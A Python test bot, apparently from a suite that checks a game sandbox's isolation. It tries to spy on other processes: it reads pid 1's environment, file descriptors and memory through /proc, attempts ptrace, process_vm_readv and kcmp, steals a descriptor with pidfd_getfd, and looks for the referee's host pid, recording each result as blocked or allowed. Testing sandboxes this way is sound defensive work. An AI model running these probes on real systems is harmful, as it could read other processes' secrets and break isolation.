"""Attack: spy on other processes: the referee, the other bots, the sandbox's own pid 1.

Lists /proc, reads pid 1's environ, root, cwd, fds and memory, ptrace-attaches to pid 1 and to
a child of its own, reads their memory with process_vm_readv, compares their files with kcmp,
steals a descriptor with pidfd_getfd, and looks for the referee's host pid in its /proc."""

import ctypes
import os
import time

from attacklib import attempt, info, params, play, report, syscall, try_syscall

PTRACE_TRACEME, PTRACE_ATTACH, PTRACE_DETACH, PTRACE_SEIZE = 0, 16, 17, 0x4206


class IoVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


def read_memory(pid: int, label: str) -> None:
    buffer = ctypes.create_string_buffer(64)
    local = IoVec(ctypes.cast(buffer, ctypes.c_void_p), 64)
    target = ctypes.c_void_p.in_dll(ctypes.pythonapi, "_Py_NoneStruct")  # any mapped address
    remote = IoVec(ctypes.addressof(target), 8)
    try_syscall(label, "process_vm_readv", pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)


def attack() -> None:
    seen = {}
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as handle:
                    seen[pid] = handle.read().split(b"\0")[0].decode(errors="replace")
            except OSError:
                seen[pid] = "?"
    info("proc_pids", seen)
    referee = params()["referee_pid"]
    info("referee_pid_visible", os.path.exists(f"/proc/{referee}") and str(referee) not in seen)
    attempt("pid1_environ", lambda: open("/proc/1/environ", "rb").read(64))
    attempt("pid1_root", lambda: os.listdir("/proc/1/root"))
    attempt("pid1_cwd", lambda: os.readlink("/proc/1/cwd"))
    attempt("pid1_fds", lambda: os.listdir("/proc/1/fd"))
    attempt("pid1_mem", lambda: open("/proc/1/mem", "rb").close())
    # SEIZE, not ATTACH: it does not stop the tracee (pid 1 could be a host's init)
    try_syscall("ptrace_attach_pid1", "ptrace", PTRACE_SEIZE, 1, 0, 0,
                undo=lambda _: syscall("ptrace", PTRACE_DETACH, 1, 0, 0))  # fmt: skip
    read_memory(1, "vm_readv_pid1")
    pidfd, error = syscall("pidfd_open", 1, 0)
    if pidfd >= 0:
        try_syscall("pidfd_getfd_pid1", "pidfd_getfd", pidfd, 0, 0)
    else:
        report("pidfd_getfd_pid1", "blocked", f"pidfd_open {error}")
    # a child of its own (same user): only the system-call filter stands in the way
    child = os.fork()
    if child == 0:
        time.sleep(3600)
        os._exit(0)
    try_syscall("ptrace_attach_own_child", "ptrace", PTRACE_ATTACH, child, 0, 0,
                undo=lambda _: syscall("ptrace", PTRACE_DETACH, child, 0, 0))  # fmt: skip
    try_syscall("ptrace_traceme", "ptrace", PTRACE_TRACEME, 0, 0, 0)
    read_memory(child, "vm_readv_own_child")
    try_syscall("kcmp_own_child", "kcmp", os.getpid(), child, 0, 0, 0)
    os.kill(child, 9)
    os.waitpid(child, 0)


def on_request(number, request):
    if number == 1:
        attack()
    return None


play(name="spy", on_request=on_request)
